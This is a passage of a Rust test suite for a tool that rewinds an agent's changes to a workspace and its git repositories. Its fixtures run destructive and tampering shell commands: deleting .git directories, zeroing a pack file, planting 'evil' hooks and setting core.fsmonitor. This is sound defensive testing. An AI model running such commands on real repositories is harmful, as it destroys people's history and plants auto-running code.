        Command::new("sh").current_dir(&place.root).args(["-c", &format!("{identity}{command}")]).output().unwrap();
    assert!(out.status.success(), "{command}: {}", String::from_utf8_lossy(&out.stderr));
}

/// The subjects of all commits that a repository has.
fn log(place: &Place, dir: &str) -> String {
    git(place, &["--git-dir", dir, "fsck", "--full"]);
    let out =
        Command::new("git").current_dir(&place.root).args(["--git-dir", dir, "log", "--all", "--format=%s"]).output();
    String::from_utf8_lossy(&out.unwrap().stdout).into_owned()
}

#[test]
fn no_undo_takes_a_repository_apart_that_came_or_was_changed_in_the_session() {
    let mirror = "git init -q --bare m.git; $git init -q ../w; cd ../w; echo 1 > w1; git add -A; $git commit -qm one; \
                  git push -q ../ws/m.git HEAD:main";
    let push = |text: &str| {
        format!("cd ../w; echo {text} > {text}; git add -A; $git commit -qm {text}; git push -q ../ws/m.git HEAD:main")
    };
    let layouts = [
        // What was there, the agent's, the person's afterwards, the repository, how many commits.
        (
            "",
            "git init -q --separate-git-dir=.bare; git add f1; $git commit -qm agent",
            "$git commit -q --allow-empty -m mine",
            ".bare",
            2,
        ),
        (mirror, &*push("agent"), &*push("mine"), "m.git", 3),
        (mirror, &*push("agent"), "true", "m.git", 2),
        (mirror, "mv m.git/objects objs; ln -s ../objs m.git/objects", &*push("mine"), "m.git", 2),
        (
            &*format!("({mirror}; git push -q ../ws/m.git HEAD:config)"),
            &*format!("({}; git push -q ../ws/m.git HEAD:config)", push("agent")),
            "cd ../w; echo 3 > w3; git add -A; $git commit -qm mine; git push -q ../ws/m.git HEAD:config",
            "m.git",
            3,
        ),
        (mirror, "mv m.git/refs other; ln -s ../other m.git/refs", &*push("mine"), "m.git", 2),
        (
            mirror,
            &*format!("({}); git -C m.git gc -q --prune=now", push("agent")),
            &*format!("({}); git -C m.git gc -q --prune=now", push("mine")),
            "m.git",
            3,
        ),
        (
            "$git init -q; git add f1; $git commit -qm one",
            "git clone -q --bare . b.git; rm b.git/HEAD b.git/config",
            "echo ref: refs/heads/main > b.git/HEAD",
            "b.git",
            1,
        ),
        (
            "",
            "git init -q x; mv x/.git objs; rm -r x; $git --git-dir=objs --work-tree=. add f1; $git --git-dir=objs commit -qm agent",
            "true",
            "objs",
            1,
        ),
    ];
    for (before, agents, persons, dir, count) in layouts {
        let place = Place::new();
        place.write("f1", "one\n");
        sh(&place, before);
        let mut review = place.review(&[]);
        turn(&mut review, |_| {
            place.write("f1", "two\n");
            sh(&place, agents);
        });
        sh(&place, persons);
        let commits = log(&place, dir);
        assert_eq!(commits.lines().count(), count, "{agents}: {commits}");
        let done = rewind(&mut review);
        assert!(done.iter().any(|one| one.path == Path::new(dir)), "{agents}: {done:?}");
        assert_eq!((log(&place, dir), place.read("f1")), (commits.clone(), "one\n".into()), "{agents}");
        drop(review.act(&ReviewAction::Undo));
        assert_eq!(log(&place, dir), commits, "{agents}");
    }
}

#[test]
fn what_was_there_is_taken_back_whatever_it_and_what_is_around_it_are_dressed_as() {
    let place = with_history();
    sh(
        &place,
        "mkdir -p modules/auth logs/app src/refs/hooks lib/refs/hooks; git branch old; \
         for f in Makefile config modules/auth/config logs/app/server.log src/refs/hooks/use lib/refs/hooks/use; do echo mine > $f; done; gzip -c f1 > data.gz; echo loose > untracked; \
         git add -A; git rm -q --cached untracked; $git commit -qm files",
    );
    let files = |place: &Place| {
        let mut files = all(&place.root);
        files.retain(|(path, _)| ![".git", ".local"].iter().any(|name| path.starts_with(place.root.join(name))));
        files
    };
    let before = files(&place);
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        sh(
            &place,
            "o=$(git rev-parse HEAD); git branch -q -D old; for f in Makefile untracked; do \
             printf '# v2 git bundle\\n%s x\\nEVIL\\n' $o > $f; done; printf '# pack-refs with: \\n%s refs/hooks/use\\n' $o > \
             src/packed-refs; echo ref: refs/heads/main > HEAD; cp HEAD src/HEAD; mkdir refs objects src/objects; \
             cp src/packed-refs lib; rm src/refs/hooks/use lib/refs/hooks/use; for f in config modules/auth/config; do echo evil > $f; done; \
             echo \"$o $o x\" > logs/app/server.log; mkdir hooks; echo evil > hooks/post-checkout; gzip -c Makefile > data.gz",
        );
    });
    rewind(&mut review);
    let mut after = files(&place);
    // The hook stays since a branch was lost.
    let stays = ["HEAD", "packed-refs", "hooks/post-checkout"];
    after.retain(|(path, _)| !stays.iter().any(|name| path.ends_with(name)));
    assert_eq!(after, before);
}

#[test]
fn archives_stay_while_a_repository_has_lost_something_and_else_not() {
    for (harm, lost) in [
        ("rm -rf .git; git init -q", ".git"),
        ("rm -rf vendor/lib/.git", "vendor/lib/.git"),
        ("rm -rf .git/modules/s", ".git/modules/s"),
        ("git branch -q -D old", ".git/refs/heads/old"),
        (
            "p=$(echo .git/objects/pack/*.pack); chmod u+w $p; touch -r $p ../ref; \
          dd if=/dev/zero of=$p bs=$(wc -c < $p) count=1 conv=notrunc 2> ../err; touch -r ../ref $p",
            ".git/objects/pack/",
        ),
        ("git pack-refs --all; git add new; touch .git/objects/pack/*", ""),
    ] {
        let place = with_history();
        sh(
            &place,
            "echo vendor/ > .gitignore; git add -A; $git commit -qm more; git branch old; git pack-refs --all; \
                    git init -q vendor/lib; git init -q --bare .git/modules/s; git gc -q",
        );
        let mut review = place.review(&[]);
        turn(&mut review, |_| {
            sh(
                &place,
                "echo new > new; git bundle create -q a.bundle --all; tar czf a.tgz .git; tar cf a.tar .git; \
                        git log -p --format=email > patches; cp .git/objects/pack/*.pack data.bin",
            );
            sh(&place, harm);
        });
        let said = review.uncovered().join("\n");
        assert_eq!(said.contains("git has lost this"), !lost.is_empty(), "{harm}: {said}");
        assert!(said.contains(lost), "{harm}: {said}");
        rewind(&mut review);
        for (name, stays) in [
            ("a.bundle", true),
            ("data.bin", true),
            ("a.tgz", !lost.is_empty()),
            ("a.tar", !lost.is_empty()),
            ("patches", !lost.is_empty()),
            ("new", false),
        ] {
            assert_eq!(place.root.join(name).exists(), stays, "{harm}: {name}");
        }
    }
}

#[test]
fn repositories_that_come_or_go_and_what_git_is_set_to_are_named() {
    let place = with_history();
    sh(&place, "git init -q gone");
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        sh(
            &place,
            "git clone -q . sub; git worktree add -q wt; git config core.fsmonitor ./evil; rm -rf gone; \
                    mkdir -p n/m/k; git clone -q . n/m/k/c; mv n/m/k/c/.git n/m/; rm -rf n/m/k; \
                    echo evil > .git/hooks/pre-commit",
        );
    });
    let dir = review.dir().to_owned();
    let said = review.uncovered().join("\n");
    drop(review);
    let later = ReviewSession::open(&dir).unwrap().uncovered().join("\n");
    for said in [said, later] {
        for words in [
            "git repositories that have come: n/m/.git, sub/.git, wt/.git; an undo leaves their .git alone",
            "git has lost this since it was seen first, or has it otherwise (`git gc` does that, too): gone/.git",
            "settings and hooks of git that have changed: .git/config, .git/hooks/pre-commit",
        ] {
            assert!(said.contains(words), "{words}: {said}");
        }
    }
}

#[test]
fn a_repository_that_comes_back_is_one_for_git_also_without_files_in_its_directories() {
    let place = with_history();
    // Of a clone all refs are in one file, and all objects in packs; of a new one there are none.
    sh(
        &place,
        "git clone -q --bare . mirror; git init -q --bare new; rm -rf new/hooks new/info; mkdir data; echo data > data/config",
    );
    sh(&place, "echo 'ref: of a book' > data/HEAD");
    for (name, empty) in [("mirror", "refs"), ("new", "objects")] {
        assert!(all(&place.root.join(name).join(empty)).is_empty());
    }
    let subjects = log(&place, "mirror");
    let mut review = place.review(&[]);
    turn(&mut review, |_| sh(&place, "rm -rf mirror new data"));
    rewind(&mut review);
    assert_eq!(log(&place, "mirror"), subjects);
    git(&place, &["--git-dir", "new", "rev-parse", "--is-bare-repository"]);
    git(&place, &["push", "-q", "new", "HEAD:refs/heads/main"]);
    // What is called alike is none.
    assert_eq!(fs::read_dir(place.root.join("data")).unwrap().count(), 2);
}

#[test]
fn an_undo_is_exact_but_for_what_is_gits_by_its_form() {
    let place = with_history();
    sh(&place, "git clone -q --bare . mirror; git clone -q --bare . fixture; git add fixture; $git commit -qm fixture");
    let before = all(&place.root);
    let mut review = place.review(&[]);
    turn(&mut review, |_| {
        sh(
            &place,
            "echo agent > f1; $git commit -qam agent; git clone -q --bare . made; git push -q mirror HEAD; \
                    echo changed > fixture/description; rm -rf fixture/refs; echo x > fixture/config",
        );
    });
    rewind(&mut review);
    let is_other =
        |path: &Path| ![".git", ".local", "mirror", "made"].iter().any(|name| path.starts_with(place.root.join(name)));
    let others =
        |files: Vec<(PathBuf, Vec<u8>)>| files.into_iter().filter(|(path, _)| is_other(path)).collect::<Vec<_>>();
    assert_eq!(others(all(&place.root)), others(before));
    assert_eq!(log(&place, "mirror"), log(&place, "made"));
}

#[path = "git_tests.rs"]
mod git_tests;
